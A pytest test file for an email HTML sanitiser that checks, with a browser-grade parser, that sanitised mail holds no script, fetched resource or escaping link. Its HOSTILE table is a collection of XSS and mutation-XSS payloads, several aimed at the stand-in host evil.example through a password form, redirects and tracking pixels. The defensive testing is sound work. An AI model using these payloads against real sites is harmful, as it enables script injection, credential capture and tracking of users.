"""HTML of strangers: what a browser would make of the sanitised result, judged by a browser-grade parser."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from selectolax.lexbor import LexborHTMLParser

from postroom_ingest.parse import parse
from postroom_ingest.parse.html import as_text, sanitised

HOSTILE = {
    "script": "<script>alert(1)</script>",
    "script in pieces": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "event handler": "<img src=x onerror=alert(1)>",
    "handler behind a slash": "<img/src=x/onerror=alert(1)>",
    "handler on a body": "<body onload=alert(1)><b onmouseover='alert(1)'>x</b>",
    "javascript url": "<a href='javascript:alert(1)'>x</a>",
    "javascript url with a line end": "<a href='java&#10;script:alert(1)'>x</a>",
    "javascript url with a control": "<a href='&#1;javascript:alert(1)'>x</a>",
    "vbscript url": "<a href='vbscript:x'>x</a>",
    "data url": (
        "<a href='data:text/html,<script>alert(1)</script>'>x</a><img src='data:image/svg+xml,<svg onload=alert(1)>'>"
    ),
    "link into our own site": (
        "<a href='/logout'>x</a><a href='//evil.example/x'>x</a><img src='/api/tickets/1/close'>"
    ),
    "svg": "<svg onload=alert(1)><script>alert(1)</script><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "svg style": "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "math": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "math annotation": (
        "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)></annotation-xml></math>"
    ),
    "noscript": "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "template": "<template><script>alert(1)</script></template>",
    "title": "<title><img src=x onerror=alert(1)></title>",
    "textarea": "<textarea></textarea><img src=x onerror=alert(1)></textarea>",
    "xmp": "<xmp><p id='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "comment trick": "<!--><img src=x onerror=alert(1)>-->",
    "conditional comment": "<!--[if mso]><script>alert(1)</script><![endif]-->",
    "cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "frame": (
        "<iframe src='https://evil.example' srcdoc='<script>alert(1)</script>'></iframe><object"
        " data=x></object><embed src=x>"
    ),
    "form": "<form action='https://evil.example'><input name=password><button formaction=x>Log in</button></form>",
    "base and refresh": (
        "<base href='https://evil.example/'><meta http-equiv=refresh content='0;url=https://evil.example'>"
    ),
    "style element": (
        "<style>@import 'https://evil.example/x.css'; body{display:none}</style><link rel=stylesheet href=x>"
    ),
    "background by url": "<p style='background:url(https://evil.example/x);background-image:url(x)'>x</p>",
    "property in escapes": r"<p style='b\61ckground:u\72l(https://evil.example/x)'>x</p>",
    "url where a colour stands": "<p style='color:url(https://evil.example/x)'>x</p>",
    "url by string escape": r"<p style='font-family:&quot;a\22 ;background:url(https://evil.example/x)&quot;'>x</p>",
    "expression": "<p style='width:expression(alert(1))'>x</p>",
    "covering the page": (
        "<div style='position:fixed;top:0;left:0;margin:-99px;z-index:9999;width:100%;height:100%'>x</div>"
    ),
    "legacy backgrounds": (
        "<table background='https://evil.example/x'><tr><td background='https://evil.example/y'>x</td></tr></table>"
    ),
    "tracking picture": "<img src='https://evil.example/t.gif?u=1' srcset='https://evil.example/t2.gif 2x' width=1>",
    "tracking behind a bracket": "<img alt='a>b' title='\"' src='https://evil.example/t.gif'>",
    "media": "<video src=https://evil.example/x autoplay><source src=x></video><audio src=https://evil.example/x>",
    "names that clobber": "<img name=getElementById src=cid:a><a id=config href=https://evil.example>x</a>",
    "opener": "<a href='https://evil.example' target=_self rel=opener>x</a>",
    "ping": "<a href='https://evil.example' ping='https://evil.example/p'>x</a>",
    "custom element": "<x-foo onclick=alert(1) is=x>y</x-foo>",
    "mutation by misnesting": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "mutation by select": "<select><template><img src=x onerror=alert(1)></template></select>",
}
FETCHING = {
    "src",
    "srcset",
    "background",
    "poster",
    "data",
    "action",
    "formaction",
    "ping",
    "xlink:href",
    "lowsrc",
    "srcdoc",
}
ALLOWED_LINKS = ("http://", "https://", "mailto:", "tel:", "cid:")


def dangers(html: str) -> list[str]:
    """What a page holding `html` would run, submit, fetch or let escape."""
    found = []
    for node in LexborHTMLParser(f"<!doctype html><body>{html}").root.css("body *"):  # type: ignore[union-attr]
        if node.tag in {
            "script",
            "style",
            "iframe",
            "object",
            "embed",
            "form",
            "input",
            "button",
            "svg",
            "math",
            "base",
            "meta",
            "link",
            "template",
            "video",
            "audio",
            "select",
            "textarea",
        }:
            found.append(f"<{node.tag}>")
        for name, value in node.attributes.items():
            text = (value or "").strip().lower()
            risky_style = name == "style" and any(
                w in text for w in ("url", "expression", "position", "margin", "z-index", "@", "\\6")
            )
            if name.startswith("on") or name in {"id", "name", "is", "class"} or risky_style:
                found.append(f"{name}={value}")
            if name in FETCHING and not text.startswith("cid:"):
                found.append(f"{name}={value}")
            if name == "href" and not text.startswith(ALLOWED_LINKS):
                found.append(f"{name}={value}")
        if node.tag == "a" and (
            node.attributes.get("target") != "_blank" or "noopener" not in (node.attributes.get("rel") or "")
        ):
            found.append("a link that keeps its opener")
    return found


@pytest.mark.parametrize("source", HOSTILE.values(), ids=HOSTILE.keys())
def test_nothing_of_a_hostile_mail_runs_or_is_fetched(source: str) -> None:
    read = parse(b"Content-Type: text/html; charset=utf-8\r\n\r\n" + source.encode())
    assert read.html is not None
    assert dangers(read.html) == []


@pytest.mark.parametrize("source", HOSTILE.values(), ids=HOSTILE.keys())
def test_a_second_reading_changes_nothing(source: str) -> None:
    once = sanitised(source)
    assert dangers(sanitised(once)) == []
    assert as_text(sanitised(once)).split() == as_text(once).split()


def test_the_judge_sees_dangers() -> None:
    """Each kind of danger is recognised in raw HTML, so an empty list means something."""
    assert len([source for source in HOSTILE.values() if dangers(source)]) >= len(HOSTILE) - 6


@settings(deadline=None)
@given(
    st.lists(
        st.sampled_from(
            [
                *HOSTILE.values(),
                "<b>",
                "</p>",
                "<table>",
                '"',
                "'",
                ">",
                "<!--",
                "]]>",
                "<p style='",
                "&lt;img src=x onerror=x&gt;",
            ]
        ),
        max_size=8,
    )
)
def test_combined_attacks_stay_harmless(pieces: list[str]) -> None:
    assert dangers(sanitised("".join(pieces))) == []


@pytest.mark.parametrize(
    ("source", "kept"),
    [
        pytest.param('<img src="cid:a@b" alt="x">', '<img src="cid:a@b" alt="x">', id="picture in the mail"),
        pytest.param(
            '<img alt="x" src="https://e.example/x.png">',
            '<img alt="x" data-remote-src="https://e.example/x.png">',
            id="remote picture waits",
        ),
        pytest.param(
            '<p style="color:red;text-align:right" dir="rtl">x</p>',
            '<p style="color:red;text-align:right" dir="rtl">x</p>',
            id="style and direction",
        ),
        pytest.param(
            '<p>src="https://x" style="url(x)"</p>',
            '<p>src="https://x" style="url(x)"</p>',
            id="words that look like attributes",
        ),
        pytest.param("<p>a<o:p></o:p></p>", "<p>a</p>", id="office markup"),
    ],
)
def test_harmless_html_is_kept(source: str, kept: str) -> None:
    assert sanitised(source) == kept


@pytest.mark.parametrize(
    "link", ["https://e.example/a?b=1&amp;c=2", "http://e.example/", "mailto:a@e.example", "tel:+491234"]
)
def test_links_are_kept(link: str) -> None:
    assert f'href="{link}"' in sanitised(f'<a href="{link}">x</a>')


@pytest.mark.parametrize(
    ("source", "text"),
    [
        ("<p>one</p><p>two</p>", "one\n\ntwo"),
        ("one<br>two<br/>three", "one\ntwo\nthree"),
        ("<div>a</div><div>b</div>", "a\n\nb"),
        ("<table><tr><td>a</td><td>b</td></tr><tr><td>c</td></tr></table>", "a b\n\nc"),
        ("<ul><li>a</li><li>b</li></ul>", "- a\n- b"),
        ("<pre>a\n  b</pre>", "a\n  b"),
        ("a &lt;b&gt; &amp;amp; &nbsp;c", "a <b> &amp;  c"),
        ("<a title='x>y' href='https://e.example'>link</a>", "link"),
    ],
)
def test_text_of_html(source: str, text: str) -> None:
    assert as_text(sanitised(source)) == text
